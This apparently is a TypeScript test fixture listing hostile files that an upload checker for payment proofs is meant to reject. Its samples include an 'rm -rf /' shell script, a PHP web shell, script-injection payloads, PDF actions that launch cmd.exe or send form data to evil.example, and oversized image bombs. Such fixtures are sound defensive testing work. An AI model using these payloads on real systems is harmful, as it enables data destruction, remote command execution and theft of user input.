import { aJpeg, aPdf, aPng, bytesOf } from '../bookings/proof-files.ts';

const ZIP = bytesOf(
  'PK\u0003\u0004',
  new Uint8Array(26),
  'PK\u0001\u0002',
  new Uint8Array(42),
  'PK\u0005\u0006',
  new Uint8Array(18),
);
const HTML = '<!DOCTYPE html><html><script>alert(1)</script></html>';
const JPEG = aJpeg();
const PNG = aPng();
const PDF = aPdf();
const PNG_HEADER_END = 33;

function withObject(object: string): Uint8Array<ArrayBuffer> {
  return bytesOf(PDF.slice(0, 9), `${object}\n`, PDF.slice(9));
}

/** A picture whose header says another size than its pixels have. */
function aPngSized(width: number, height: number): Uint8Array<ArrayBuffer> {
  const file = PNG.slice();
  new DataView(file.buffer).setUint32(16, width);
  new DataView(file.buffer).setUint32(20, height);
  return file;
}

function aJpegSized(width: number, height: number): Uint8Array<ArrayBuffer> {
  const file = JPEG.slice();
  const frame = file.findIndex((byte, at) => byte === 0xff && file[at + 1] === 0xc0);
  new DataView(file.buffer).setUint16(frame + 5, height);
  new DataView(file.buffer).setUint16(frame + 7, width);
  return file;
}

/** What people and programs send under the name of a picture; none of it is a proof. */
export const HOSTILE_FILES: Record<string, Uint8Array<ArrayBuffer>> = {
  'a renamed .exe': bytesOf('MZ', [0x90, 0], new Uint8Array(64), 'This program cannot be run in DOS mode.'),
  'a Linux program': bytesOf([0x7f], 'ELF', new Uint8Array(60)),
  'a shell script': bytesOf('#!/bin/sh\nrm -rf /\n'),
  'a page': bytesOf(HTML),
  'a page behind a byte order mark': bytesOf([0xef, 0xbb, 0xbf], HTML),
  'a drawing that runs': bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'a drawing with a declaration': bytesOf('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
  'a PHP script': bytesOf('<?php system($_GET["c"]);'),
  'an archive': ZIP,
  'a compressed file': bytesOf([0x1f, 0x8b, 8, 0], new Uint8Array(20)),
  'a GIF': bytesOf('GIF89a', [1, 0, 1, 0, 0x80, 0, 0], new Uint8Array(20)),
  'a GIF that is a script': bytesOf('GIF89a/*', new Uint8Array(20), '*/=alert(1)//'),
  'a WebP': bytesOf('RIFF', [26, 0, 0, 0], 'WEBPVP8L', new Uint8Array(20)),
  'a HEIC': bytesOf([0, 0, 0, 24], 'ftypheic', new Uint8Array(20)),
  'a bitmap': bytesOf('BM', new Uint8Array(60)),
  'a TIFF': bytesOf('II*', [0, 8, 0, 0, 0], new Uint8Array(20)),
  'an icon': bytesOf([0, 0, 1, 0, 1, 0], new Uint8Array(60)),
  'a word document': bytesOf([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(60)),
  'plain text': bytesOf('I paid, believe me.'),
  zeros: bytesOf(new Uint8Array(1000)),
  'a single byte': bytesOf([0xff]),
  'the first bytes of a JPEG': JPEG.slice(0, 3),
  'a JPEG cut short': JPEG.slice(0, JPEG.length - 2),
  'a JPEG without a picture': bytesOf([0xff, 0xd8, 0xff, 0xd9]),
  'a JPEG of no size': aJpeg(0),
  'a JPEG with a page in a comment': bytesOf(
    [0xff, 0xd8, 0xff, 0xfe, 0, HTML.length + 2],
    HTML,
    JPEG.slice(2),
  ),
  'a JPEG with an archive behind it': bytesOf(JPEG, ZIP),
  'a JPEG with a program behind it': bytesOf(JPEG, 'MZ', [0x90, 0], new Uint8Array(64)),
  'the signature of a PNG alone': PNG.slice(0, 8),
  'a PNG cut in its header': PNG.slice(0, 20),
  'a PNG cut short': PNG.slice(0, PNG.length - 12),
  'a PNG whose chunk lies about its length': bytesOf(
    PNG.slice(0, PNG_HEADER_END),
    [0x7f, 0xff, 0xff, 0xff],
    'IDAT',
    [0],
  ),
  'a PNG without a header': bytesOf(PNG.slice(0, 8), PNG.slice(PNG_HEADER_END)),
  'a PNG with a script behind it': bytesOf(PNG, '<script>alert(1)</script>'),
  'a PNG with a PDF behind it': bytesOf(PNG, PDF),
  'a PDF cut short': PDF.slice(0, PDF.length - 8),
  'a PDF behind something else': bytesOf('x'.repeat(10), PDF),
  'a PDF that runs a script': bytesOf(
    PDF.slice(0, 9),
    '<< /S /JavaScript /JS (app.alert(1)) >>\n',
    PDF.slice(9),
  ),
  'a PDF that starts a program': bytesOf(PDF.slice(0, 9), '<< /S /Launch /F (cmd.exe) >>\n', PDF.slice(9)),
  'a PDF with a name in numbers': withObject('<< /S /#4aava#53cript >>'),
  'a PDF in other letters': withObject('<< /S /JAVAscript >>'),
  'a PDF with files in it': withObject('<< /Names << /EmbeddedFiles 7 0 R >> >>'),
  'a PDF with one file in it': withObject('<< /Type /EmbeddedFile >>'),
  'a PDF that sends what one types': withObject('<< /S /SubmitForm /F (https://evil.example) >>'),
  'a PDF that fetches data': withObject('<< /S /ImportData /F (x.fdf) >>'),
  'a PDF with a film': withObject('<< /Subtype /RichMedia >>'),
  'a PDF that opens a file within': withObject('<< /S /GoToE >>'),
  'a PNG with a script in capitals behind it': bytesOf(PNG, '<SCRIPT>alert(1)</SCRIPT>'),
  'a PNG of 900 million pixels': aPngSized(30_000, 30_000),
  'a PNG of 2^62 pixels': aPngSized(0x80000000, 0x80000000),
  'a PNG too long to draw': aPngSized(1, 12_001),
  'a PNG of a few pixels too many': aPngSized(10_000, 5_001),
  'a JPEG of 4 thousand million pixels': aJpegSized(65_535, 65_535),
  'a page that says it is a PDF': bytesOf('%PDF-1.4\n', HTML, '\n%%EOF'),
};
